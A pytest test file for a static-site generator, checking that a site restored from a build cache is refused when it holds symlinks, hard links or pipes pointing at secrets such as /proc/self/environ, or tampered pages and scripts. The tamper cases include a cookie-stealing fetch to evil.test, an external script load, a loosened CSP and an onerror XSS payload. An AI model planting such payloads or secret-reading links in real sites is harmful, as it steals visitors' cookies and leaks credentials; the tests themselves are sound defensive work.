"""Issue 11 item 2: keep-last-good never follows a link and carries only what the plan names.

The previous site comes back from the actions cache; a poisoned entry must not publish
secrets (a link to /proc/self/environ) or scripts. Real trees on disk, real links and pipes.
"""

from __future__ import annotations

import os
import shutil
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from sitefactory import make_site

from sitegen.cli import main
from sitegen.site.check import check_site
from sitegen.site.lastgood import carry_over
from sitegen.site.safetree import UnsafeEntry, read_regular_file
from sitegen.site.writer import write_site

NOW = datetime(2026, 1, 29, 19, 0, tzinfo=UTC)
BOTH = {"BTC/USDT:USDT": "btc-usdt", "ETH/USDT:USDT": "eth-usdt"}
ETH_FAILED = {"ETH/USDT:USDT": "okx: timeout"}
SECRET = "hunter2-proxy-secret"


@pytest.fixture
def prev(tmp_path: Path) -> Path:
    out = tmp_path / "site"
    write_site(make_site(BOTH), out)
    return out


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    p = tmp_path / "environ"
    p.write_text(f"LIQMAP_PROXY=https://alice:{SECRET}@proxy.test:3128\n")
    return p


def _carry(prev: Path) -> tuple[dict[str, bytes], list, dict[str, str]]:
    return carry_over(prev, ETH_FAILED, make_site({"BTC/USDT:USDT": "btc-usdt"}), now=NOW)


def _no_secret(files: dict[str, bytes]) -> None:
    assert not any(SECRET.encode() in c for c in files.values())


def test_an_extra_link_in_a_symbol_folder_stops_the_carry_over(prev: Path, secret_file: Path) -> None:
    os.symlink(secret_file, prev / "eth-usdt" / "notes.txt")
    merged, carried, not_kept = _carry(prev)
    assert carried == []
    assert "eth-usdt/notes.txt" in not_kept["ETH/USDT:USDT"] and "tampered" in not_kept["ETH/USDT:USDT"]
    assert not any(k.startswith("eth-usdt/") for k in merged)
    _no_secret(merged)


def test_proc_self_environ_link_is_never_read(prev: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LIQMAP_PROXY", f"https://alice:{SECRET}@proxy.test:3128")
    os.symlink("/proc/self/environ", prev / "eth-usdt" / "notes.txt")
    merged, carried, _ = _carry(prev)
    assert carried == []
    _no_secret(merged)


@pytest.mark.parametrize("rel", ["eth-usdt/12h/index.html", "data/eth-usdt.csv", "data/eth-usdt.json"])
def test_a_link_at_a_planned_path_stops_the_carry_over(prev: Path, secret_file: Path, rel: str) -> None:
    target = prev / rel
    target.unlink()
    os.symlink(secret_file, target)
    merged, carried, not_kept = _carry(prev)
    assert carried == [] and rel in not_kept["ETH/USDT:USDT"]
    _no_secret(merged)


def test_a_linked_folder_is_not_followed(prev: Path, tmp_path: Path, secret_file: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(prev / "embed" / "eth-usdt", elsewhere)
    (elsewhere / "index.html").write_text(f"<html><head><title>x</title></head><body>{SECRET}</body></html>")
    shutil.rmtree(prev / "embed" / "eth-usdt")
    os.symlink(elsewhere, prev / "embed" / "eth-usdt")
    merged, carried, not_kept = _carry(prev)
    assert carried == [] and "embed/eth-usdt" in not_kept["ETH/USDT:USDT"]
    _no_secret(merged)


def test_a_named_pipe_does_not_hang_and_is_refused(prev: Path) -> None:
    (prev / "data" / "eth-usdt.csv").unlink()
    os.mkfifo(prev / "data" / "eth-usdt.csv")
    _, carried, not_kept = _carry(prev)
    assert carried == [] and "data/eth-usdt.csv" in not_kept["ETH/USDT:USDT"]


def test_an_extra_regular_file_in_a_symbol_folder_is_refused(prev: Path) -> None:
    (prev / "eth-usdt" / "notes.txt").write_text("not written by liqmap\n")
    _, carried, not_kept = _carry(prev)
    assert carried == [] and "eth-usdt/notes.txt" in not_kept["ETH/USDT:USDT"]


def test_a_hard_link_to_a_file_outside_is_refused(prev: Path, secret_file: Path) -> None:
    (prev / "data" / "eth-usdt.csv").unlink()
    os.link(secret_file, prev / "data" / "eth-usdt.csv")
    with pytest.raises(UnsafeEntry, match="hard link"):
        read_regular_file(prev, "data/eth-usdt.csv")
    merged, carried, _ = _carry(prev)
    assert carried == []
    _no_secret(merged)


def test_a_clean_previous_tree_is_still_carried(prev: Path) -> None:
    merged, [c], not_kept = _carry(prev)
    assert not_kept == {} and c.symbol == "ETH/USDT:USDT"
    assert "eth-usdt/index.html" in merged


def test_liqmap_check_reports_links_in_the_tree(prev: Path, secret_file: Path) -> None:
    os.symlink(secret_file, prev / "eth-usdt" / "notes.txt")
    problems = check_site(prev)
    assert any("eth-usdt/notes.txt: is not a regular file" in p for p in problems)
    res = CliRunner().invoke(main, ["check", str(prev)])
    assert res.exit_code == 1 and "eth-usdt/notes.txt" in res.output


# -- carried HTML passes the checks fresh HTML passes (a real sample build) -------------


def _real_prev(sample_site: Path, tmp_path: Path) -> tuple[Path, dict[str, bytes]]:
    prev = tmp_path / "prev"
    shutil.copytree(sample_site, prev, symlinks=True)
    fresh = {
        p.relative_to(sample_site).as_posix(): p.read_bytes()
        for p in sample_site.rglob("*")
        if p.is_file() and not p.name.startswith(".")
        and not p.relative_to(sample_site).as_posix().startswith(("eth-usdt/", "embed/eth-usdt/", "oembed/eth-usdt/"))
        and "eth-usdt" not in p.name
    }
    return prev, fresh


def test_real_pages_are_carried(sample_site: Path, tmp_path: Path) -> None:
    prev, fresh = _real_prev(sample_site, tmp_path)
    _, carried, not_kept = carry_over(prev, ETH_FAILED, fresh, now=NOW)
    assert not_kept == {} and [c.symbol for c in carried] == ["ETH/USDT:USDT"]


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        (b"</head>", b"<script>fetch('https://evil.test/?'+document.cookie)</script></head>", "has a script"),
        (b"</head>", b"<script src='https://evil.test/x.js'></script></head>", "loads a script from"),
        (b"script-src 'self'", b"script-src 'self' 'unsafe-inline' https://evil.test", "Content-Security-Policy"),
        (b"<main", b"<img src=x onerror=alert(1)><main", "has a script"),
        # the scripts liqmap.js loads on demand: BokehJS from static/ and the page's doc.js only
        (b'"doc.js?v=', b'"https://evil.test/x.js", "doc.js?v=', "loads a script from"),
        (b'"doc.js?v=', b'"../../data/eth-usdt.json?v=', "loads a script from"),
    ],
    ids=["inline-script", "external-script", "loose-csp", "event-handler", "lazy-external", "lazy-other-file"],
)
def test_tampered_html_is_not_carried(sample_site: Path, tmp_path: Path, old: bytes, new: bytes, why: str) -> None:
    prev, fresh = _real_prev(sample_site, tmp_path)
    page = prev / "eth-usdt" / "index.html"
    html = page.read_bytes()
    assert old in html
    page.write_bytes(html.replace(old, new, 1))
    merged, carried, not_kept = carry_over(prev, ETH_FAILED, fresh, now=NOW)
    assert carried == [] and why in not_kept["ETH/USDT:USDT"]
    assert "eth-usdt/index.html" not in merged


@pytest.mark.parametrize("content", [
    b'window.liqmapDoc={};fetch("https://evil.test/?"+document.cookie);\n',
    b'window.liqmapDoc=(fetch("https://evil.test/"),{});\n',
    b"fetch('https://evil.test/')\n",
], ids=["appended-code", "code-in-the-value", "no-document"])
def test_a_tampered_document_file_is_not_carried(prev: Path, content: bytes) -> None:
    """doc.js runs as script: only the one JSON assignment the renderer writes is carried."""
    (prev / "eth-usdt" / "24h" / "doc.js").write_bytes(content)
    merged, carried, not_kept = _carry(prev)
    assert carried == [] and "eth-usdt/24h/doc.js" in not_kept["ETH/USDT:USDT"]
    assert not any(k.startswith("eth-usdt/") for k in merged)


def test_a_linked_snapshot_is_dropped_not_followed(tmp_path: Path) -> None:
    """Snapshots are carried forward from the previous tree too: same rule, no link followed."""
    import json

    from sitegen.site.snapshots import SNAPSHOT_DIR, add_snapshots

    out = tmp_path / "site"
    files = add_snapshots(make_site(BOTH), None, now=NOW)
    write_site(files, out)
    real = sorted((out / SNAPSHOT_DIR).glob("*/*.json"))[0]
    outside = tmp_path / "outside.json"
    outside.write_bytes(real.read_bytes().replace(b"btc", b"xyz"))
    hour = real.parent.name
    os.symlink(outside, out / SNAPSHOT_DIR / hour / "xyz-usdt.json")
    later = add_snapshots(make_site(BOTH), out, now=NOW.replace(hour=20))
    assert f"{SNAPSHOT_DIR}/{hour}/xyz-usdt.json" not in later
    assert f"{SNAPSHOT_DIR}/{hour}/{real.name}" in later
    index = json.loads(later[f"{SNAPSHOT_DIR}/index.json"])
    assert all("xyz-usdt" not in e["files"] for e in index["snapshots"])
